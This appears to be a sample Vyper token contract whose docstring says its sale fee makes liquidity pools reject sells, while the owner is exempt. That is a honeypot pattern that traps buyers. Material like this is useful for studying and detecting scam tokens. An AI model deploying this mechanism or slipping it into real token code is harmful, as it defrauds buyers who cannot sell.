# pragma version 0.4.3
# pragma evm-version cancun
"""
@title A fee on the sale
@notice The buyer pays no fee to buy. On a sale part of the tokens goes to the
        owner, so the pool gets less than it is owed and refuses the swap.
"""

from .lib import erc20
from .lib import owned

initializes: erc20
initializes: owned

exports: (
    erc20.name,
    erc20.symbol,
    erc20.decimals,
    erc20.totalSupply,
    erc20.balanceOf,
    erc20.allowance,
    erc20.approve,
    erc20.transfer,
    owned.owner,
)

# Hundredths of a percent.
TAX_BPS: public(immutable(uint256))


@deploy
def __init__(name: String[64], symbol: String[32], supply: uint256, tax_bps: uint256):
    erc20.__init__(name, symbol, 18, supply)
    owned.__init__()
    assert tax_bps <= 10_000, "more than everything"
    TAX_BPS = tax_bps


@external
def transferFrom(source: address, to: address, amount: uint256) -> bool:
    erc20._spend(source, msg.sender, amount)
    if to.is_contract and source != owned.owner:
        erc20._move_with_fee(source, to, amount, TAX_BPS, owned.owner)
    else:
        erc20._move(source, to, amount)
    return True
